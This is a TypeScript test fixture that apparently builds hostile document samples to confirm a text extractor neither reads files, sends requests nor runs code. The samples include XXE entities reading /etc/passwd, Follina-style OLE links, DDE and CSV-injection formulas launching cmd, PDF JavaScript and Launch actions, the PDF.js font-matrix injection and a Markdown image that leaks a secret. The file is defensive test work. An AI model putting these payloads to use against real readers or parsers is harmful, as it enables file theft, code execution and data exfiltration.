import { docx, links, paragraph, shape, shows, xlsx, zip } from '../made.js';
import { deflated, onePage, pdfFile } from '../made-pdf.js';
import type { DocumentCase } from './case.js';

const cell = (content: string, attributes = ' t="str"') => `<c${attributes}>${content}</c>`;
const sheet = (...cells: readonly string[]) => [{ name: 'S', rows: `<row>${cells.join('')}</row>` }];
const typed = (type: string) => xlsx({ sheets: sheet(cell('<v>&x;</v>')), prologue: type });
const text = shows('Text of a page');

/** Documents that ask a reader to read files, send requests, or run something. */
export const reaching: readonly DocumentCase[] = [
  {
    name: 'an entity that is a file',
    source: 'CWE-611; CVE-2014-3529 of Apache POI',
    make: () => typed('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    answer: 'refused: damaged',
  },
  {
    name: 'an entity that is at an address',
    source: 'CWE-611',
    make: (url) => typed(`<!DOCTYPE x [<!ENTITY x SYSTEM "${url}">]>`),
    answer: 'refused: damaged',
  },
  {
    name: 'a document type at an address, in a letter',
    source: 'CWE-611',
    make: (url) =>
      docx('', {
        'word/document.xml': `<!DOCTYPE x SYSTEM "${url}"><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraph('Text')}</w:body></w:document>`,
      }),
    answer: 'refused: damaged',
  },
  {
    name: 'a document type in a part beside the letter',
    source: 'CWE-611',
    make: (url) => docx(paragraph('Text'), { 'word/styles.xml': `<!DOCTYPE x [<!ENTITY % x SYSTEM "${url}">%x;]><x/>` }),
    answer: 'refused: damaged',
  },
  {
    name: 'XML that includes a file',
    source: 'XInclude 1.0',
    make: () => xlsx({ sheets: sheet(cell('<v><xi:include href="file:///etc/passwd" parse="text"/>Text</v>')) }),
    answer: /^S(\nText)?$/,
  },
  {
    name: 'a letter with a template at an address',
    source: 'MITRE ATT&CK T1221: template injection',
    make: (url) =>
      docx(paragraph('Text'), { 'word/_rels/settings.xml.rels': links({ type: 'attachedTemplate', target: url, external: true }) }),
    answer: 'Text',
  },
  {
    name: 'a letter with an object at an address',
    source: 'CVE-2022-30190, Follina',
    make: (url) =>
      docx(paragraph('Text'), { 'word/_rels/document.xml.rels': links({ type: 'oleObject', target: `${url}!`, external: true }) }),
    answer: 'Text',
  },
  {
    name: 'a letter with a picture that is a file or at an address',
    source: 'CVE-2025-11849 of mammoth',
    make: (url) => {
      const picture = (id: string) =>
        `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic><a:graphicData><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
      const targets = links(
        { type: 'image', target: 'file:///etc/passwd', external: true },
        { type: 'image', target: url, external: true },
      );
      return docx(paragraph('Text') + picture('r1') + picture('r2'), { 'word/_rels/document.xml.rels': targets });
    },
    answer: 'Text',
  },
  {
    name: 'a letter that contains another document',
    source: 'ECMA-376 part 1, 17.17.2: altChunk',
    make: () =>
      docx(`${paragraph('Text')}<w:altChunk r:id="r1"/>`, {
        'word/_rels/document.xml.rels': links({ type: 'aFChunk', target: 'a.html' }),
        'word/a.html': '<p>inside',
      }),
    answer: 'Text',
  },
  {
    name: 'a workbook with formulas that start programs and send requests',
    source: 'MITRE ATT&CK T1559.002: DDE; WEBSERVICE',
    make: (url) =>
      xlsx({
        sheets: sheet(
          cell("<f>cmd|'/c calc'!A0</f><v>1</v>", ''),
          cell(`<f>WEBSERVICE("${url}")</f><v>2</v>`, ''),
          cell('<f>HYPERLINK("file:///etc/passwd")</f>', ''),
        ),
      }),
    answer: 'S\n1\t2\t=HYPERLINK("file:///etc/passwd")',
  },
  {
    name: 'a table with formulas',
    source: 'OWASP: CSV injection',
    make: () => "name,sum\n=cmd|'/c calc'!A0,@SUM(1)\n",
    file: 'a.csv',
    answer: "name,sum\n=cmd|'/c calc'!A0,@SUM(1)",
  },
  {
    name: 'a workbook whose sheets are files and addresses',
    source: 'ECMA-376 part 2, 9.3: targets',
    make: (url) =>
      zip({
        '_rels/.rels': links({ type: 'officeDocument', target: 'xl/workbook.xml' }),
        'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="S" r:id="r1"/><sheet name="T" r:id="r2"/></sheets></workbook>',
        'xl/_rels/workbook.xml.rels': links(
          { type: 'worksheet', target: url },
          { type: 'worksheet', target: '../../../../../../etc/passwd' },
        ),
      }),
    answer: 'S\fT',
  },
  {
    name: 'a presentation whose first slide is at an address',
    source: 'ECMA-376 part 2, 9.3: TargetMode',
    make: (url) =>
      zip({
        '_rels/.rels': links({ type: 'officeDocument', target: 'ppt/presentation.xml' }),
        'ppt/presentation.xml': '<presentation xmlns:r="r"><sldId r:id="r1"/><sldId r:id="r2"/></presentation>',
        'ppt/_rels/presentation.xml.rels': links({ type: 'slide', target: url, external: true }, { type: 'slide', target: 'slide.xml' }),
        'ppt/slide.xml': `<sld xmlns:a="a" xmlns:p="p">${shape('body', 'Text')}</sld>`,
      }),
    answer: '\fText',
  },
  {
    name: 'a page that loads from everywhere',
    source: 'HTML Standard',
    make: (url) =>
      `<html><head><base href="${url}"><meta http-equiv=refresh content="0;url=${url}"><link rel=stylesheet href=a.css><script src=a.js></script></head>` +
      `<body background="${url}">Text<iframe src="${url}"></iframe><object data="file:///etc/passwd"></object><img src="${url}" onerror="fetch('${url}')">`,
    answer: 'Text',
  },
  {
    name: 'Markdown with a picture that carries a secret away',
    source: 'OWASP LLM02: data leaves by the address of a picture',
    make: (url) => `![picture](${url}?secret=1)`,
    file: 'a.md',
    answer: /^!\[picture\]/,
  },
  {
    name: 'a drawing with an entity that is a file',
    source: 'CWE-611',
    make: () => '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
    file: 'a.svg',
    answer: /&x;/,
  },
  {
    name: 'a PDF with scripts',
    source: 'ISO 32000-1, 12.6.4.16',
    make: (url) =>
      pdfFile(
        onePage(text, {
          catalog: `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${url}"\\))>>/Names<</JavaScript<</Names[(a) <</S/JavaScript/JS(this.exportDataObject\\(\\))>>]>>>>`,
          page: `/AA<</O<</S/JavaScript/JS(fetch\\("${url}"\\))>>>>`,
        }),
      ),
    answer: 'Text of a page',
  },
  {
    name: 'a PDF that starts programs, opens files and sends forms',
    source: 'ISO 32000-1, 12.6.4; CVE-2010-1240',
    make: (url) => {
      const actions = [
        '/S/Launch/F(/bin/sh)',
        `/S/URI/URI(${url})`,
        `/S/SubmitForm/F(${url})`,
        '/S/GoToR/F(/etc/passwd)/D[0/Fit]',
        `/S/ImportData/F(${url})`,
      ];
      const annotations = actions.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>`);
      return pdfFile(onePage(text, { page: `/Annots[${annotations.join('')}]`, catalog: `/OpenAction<<${actions[0]}>>` }));
    },
    answer: 'Text of a page',
  },
  {
    name: 'a PDF whose page is in another file',
    source: 'ISO 32000-1, 7.3.8.2: /F of a stream',
    make: () => pdfFile(onePage({ data: text, entries: '/F(/etc/passwd)' })),
    answer: /^(Text of a page|refused: no_text)$/,
  },
  {
    name: 'a PDF with a script in the matrix of a font',
    source: 'CVE-2024-4367 of PDF.js',
    make: (url) =>
      pdfFile(
        onePage(text, {
          font: `<</Type/Font/Subtype/Type1/BaseFont/Own/FontMatrix[1 2 3 4 5 (0\\); fetch\\('${url}'\\)]/FontDescriptor<</Type/FontDescriptor/FontName/Own/Flags 32>>>>`,
        }),
      ),
    answer: /^(Text of a page|refused: no_text)$/,
  },
  {
    name: 'a PDF with a form of the kind XFA that has scripts and addresses',
    source: 'ISO 32000-1, 12.7.8; XFA 3.3: events',
    make: (url) =>
      pdfFile(
        onePage(text, {
          catalog: '/NeedsRendering true/AcroForm<</Fields[]/DR<</Font<<>>>>/XFA 6 0 R>>',
          objects: {
            6: deflated(
              `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform layout="tb"><pageSet><pageArea><contentArea w="8in" h="10in"/><medium stock="letter" short="8.5in" long="11in"/></pageArea></pageSet><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("${url}")</script></event><draw w="5in" h="1in"><value><image href="${url}"/></value></draw><draw w="5in" h="1in"><value><text>Drawn</text></value></draw></subform></template></xdp:xdp>`,
            ),
          },
        }),
      ),
    answer: /^(Drawn|Text of a page|refused: no_text)$/,
  },
];
